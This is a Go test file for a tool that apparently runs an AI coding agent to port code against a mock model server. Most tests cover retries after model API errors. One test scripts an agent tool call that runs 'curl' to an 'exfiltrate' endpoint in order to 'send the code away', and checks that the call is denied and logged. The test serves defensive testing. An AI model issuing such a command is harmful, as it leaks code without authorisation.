package run_test

import (
	"context"
	"errors"
	"strings"
	"testing"

	"portwave/internal/modelserver"
	"portwave/mage/port"
	"portwave/mage/portdb"
	"portwave/mage/run"
)

// port12Turns is the model porting batch 12 in one go.
func port12Turns() []modelserver.Turn {
	return []modelserver.Turn{editTurn("internal ClientConnection Connect"), editTurn("internal void RemoveSubscription"),
		editTurn("internal void RemoveClient"), editTurn("public void Shutdown()"), {Text: "Ported."}}
}

// failingFirst is port12Turns whose first request fails with status the
// first times it is asked.
func failingFirst(status, times int) modelserver.Script {
	turns := port12Turns()
	turns[0].Error = &modelserver.APIError{Status: status, Type: "api_error", Message: "Internal server error", Times: times}
	return modelserver.Script{Turns: turns}
}

func agentEvents(t *testing.T, w *run.Orchestrator, batch int) map[portdb.AgentEventKind][]string {
	t.Helper()
	evs, err := w.DB.AgentEvents(context.Background(), batch)
	if err != nil {
		t.Fatal(err)
	}
	out := map[portdb.AgentEventKind][]string{}
	for _, e := range evs {
		out[e.Kind] = append(out[e.Kind], e.Detail)
	}
	return out
}

// A model API that fails with 500 for a while, past the CLI's own retries,
// is waited out: portwave runs the agent again within the same attempt, so
// the only gate attempt is left for the work. The CLI's retries and
// portwave's are in the ledger.
func TestPersistentAPI500sAreRetriedWithoutSpendingAGateAttempt(t *testing.T) {
	rig := newClaudeRig(t, map[string]string{"PORTWAVE_ATTEMPTS": "1", "PORTWAVE_AGENT_RETRIES": "2",
		"PORTWAVE_AGENT_RETRY_BACKOFF": "50ms"}, modelserver.Route{Script: failingFirst(500, 3)})
	rig.env = append(rig.env, "CLAUDE_CODE_MAX_RETRIES=1") // the CLI retries once by itself
	w := rig.open(t)
	if err := w.RunBatch(context.Background(), 12); err != nil {
		t.Fatalf("the batch: %v", err)
	}
	runs, _ := w.DB.BatchRuns(context.Background(), 12)
	if len(runs) != 1 || runs[0].Attempt != 1 || runs[0].State != port.StateDone {
		t.Fatalf("ledger rows %+v, want one attempt, done", runs)
	}
	ev := agentEvents(t, w, 12)
	// 3 errors: the first run and the CLI's retry, then the second run's
	// first request; its retry gets the answer.
	if len(ev[portdb.EventAgentRetry]) != 1 || !strings.Contains(ev[portdb.EventAgentRetry][0], "the model API answered 500") {
		t.Errorf("portwave's retries in the ledger: %q, want 1 after a 500", ev[portdb.EventAgentRetry])
	}
	if len(ev[portdb.EventAPIRetry]) != 2 || !strings.Contains(ev[portdb.EventAPIRetry][0], "500") {
		t.Errorf("the CLI's API retries in the ledger: %q, want one per run, naming the 500", ev[portdb.EventAPIRetry])
	}
	var failedRequests int
	for _, r := range rig.srv.Requests() {
		if r.Turn == 0 {
			failedRequests++
		}
	}
	if failedRequests != 4 { // 3 errors, then the answer
		t.Errorf("the model was asked %d times for its first turn, want 4", failedRequests)
	}
	if st := status(t, w, 19); st != port.Verified {
		t.Errorf("feature 19 is %s", st)
	}
}

// When the API keeps failing past agent_retries, the batch fails at the
// agent, saying why, with every run recorded.
func TestAnAPIThatKeepsFailingFailsTheAgentStageAfterTheRetries(t *testing.T) {
	rig := newClaudeRig(t, map[string]string{"PORTWAVE_AGENT_RETRIES": "1", "PORTWAVE_AGENT_RETRY_BACKOFF": "50ms"},
		modelserver.Route{Script: failingFirst(529, 0)})
	w := rig.open(t)
	err := w.RunBatch(context.Background(), 12)
	var be *run.BatchError
	if !errors.As(err, &be) || be.Stage != port.StageAgent {
		t.Fatalf("err = %v, want the agent stage failed", err)
	}
	runs, _ := w.DB.BatchRuns(context.Background(), 12)
	if len(runs) != 1 || runs[0].Attempt != 1 {
		t.Errorf("ledger rows %+v, want the one attempt", runs)
	}
	if ev := agentEvents(t, w, 12); len(ev[portdb.EventAgentRetry]) != 1 {
		t.Errorf("retries recorded: %q, want 1", ev[portdb.EventAgentRetry])
	}
	if n := len(rig.srv.Requests()); n != 2 {
		t.Errorf("the model was asked %d times, want 2 (the run and its one retry)", n)
	}
}

// A tool call the CLI refuses is recorded as a denial of the attempt.
func TestADeniedToolCallIsRecordedForTheAttempt(t *testing.T) {
	turns := append([]modelserver.Turn{{ToolUse: &modelserver.ToolUse{Name: "Bash",
		Input: map[string]any{"command": "curl -s http://127.0.0.1:9/exfiltrate", "description": "send the code away"}}}}, port12Turns()...)
	rig := newClaudeRig(t, nil, modelserver.Route{Script: modelserver.Script{Turns: turns}})
	w := rig.open(t)
	if err := w.RunBatch(context.Background(), 12); err != nil {
		t.Fatalf("the batch: %v", err)
	}
	ev := agentEvents(t, w, 12)
	if len(ev[portdb.EventDenial]) != 1 || !strings.Contains(ev[portdb.EventDenial][0], "curl") {
		t.Errorf("denials recorded: %q, want the Bash curl", ev[portdb.EventDenial])
	}
}
